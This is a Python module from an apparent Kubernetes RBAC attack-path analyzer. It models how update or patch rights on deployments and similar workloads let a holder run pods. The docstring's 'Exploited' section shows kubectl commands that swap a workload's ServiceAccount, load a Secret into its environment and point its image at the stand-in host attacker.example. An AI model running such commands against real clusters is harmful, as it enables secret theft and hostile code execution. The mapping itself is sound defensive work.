"""Whoever changes the template of a workload decides what its pods mount and whom they run as; the next rollout
does it.

## Needs

``update`` or ``patch`` on a workload that exists and whose template can be changed: ``deployments``, ``replicasets``,
``statefulsets``, ``daemonsets`` (group ``apps``), ``cronjobs`` (group ``batch``), ``replicationcontrollers``. The
template of a Job cannot be changed, except while it is suspended and has not begun, and then neither volumes nor the
ServiceAccount. With ``resourceNames``, one of these names has to exist. The subresource ``scale`` is no way.

## Exploited

```console
$ kubectl set serviceaccount deployment web deployer -n shop
$ kubectl set env deployment web -n shop --from=secret/db && kubectl set image deployment web '*=attacker.example/peek'
```

## Closed

As for creating them: the namespace is the boundary. Whoever only restarts or scales needs ``patch`` on
``deployments/scale``, or a tool that restarts for him.

## Demonstrated

The controller manager of the test control plane makes the pod from the changed template; then, as for pods, the node
that the pod is bound to reads the Secret.

## References

- https://kubernetes.io/docs/concepts/security/rbac-good-practices/#workload-creation
"""

from __future__ import annotations

from collections.abc import Iterator

from strongroom.access.arrivals import CONTROLLERS
from strongroom.access.rbac import Permission
from strongroom.access.way import Way
from strongroom.access.world import DEFAULT, World, grounds, who
from strongroom.model.access import Evidence, Node, Power, Step, power
from strongroom.model.resource import Resource

_ANY = "*"

_Places = dict[str, dict[str, Resource]]
"""The workloads of one kind by namespace and name."""


def steps(world: World) -> Iterator[Step]:
    """Yield who changes which workload's template; one step leads on from all workloads of a kind in a namespace."""
    for group, resource, kind in CONTROLLERS:
        if kind != "Job":
            yield from _of_kind(world, group, resource, kind)


def _of_kind(world: World, group: str, resource: str, kind: str) -> Iterator[Step]:
    places: _Places = {}
    for found in world.facts.of_kind(kind):
        if found.group == group:
            places.setdefault(found.namespace or DEFAULT, {})[found.name] = found
    everywhere, note = Node(kind, "", _ANY), f"update or patch {resource}"
    asked = False
    for permission in world.holders(group, resource, "update", "patch"):
        if permission.namespace or permission.names:
            yield from _placed(permission, places, note)
        else:
            asked = True
            yield Step(who(permission), everywhere, WAY.id, grounds(permission, note), note=note)
    if asked:
        for namespace, present in places.items():
            evidence = (_evidence(next(iter(present.values()))),)
            yield Step(everywhere, power(Power.RUN_PODS, namespace), WAY.id, evidence)


def _placed(permission: Permission, places: _Places, note: str) -> Iterator[Step]:
    for namespace in [permission.namespace] if permission.namespace else places:
        present = places.get(namespace, {})
        changed = next((present[name] for name in permission.names or present if name in present), None)
        if changed is not None:
            evidence = (*grounds(permission, note), _evidence(changed))
            yield Step(who(permission), power(Power.RUN_PODS, namespace), WAY.id, evidence, note=note)


def _evidence(workload: Resource) -> Evidence:
    return Evidence("workload", workload.id, workload.origin, "its template can be changed")


WAY = Way("workloads-change", "changes the template of a workload", ("T1610", "T1525"), steps)
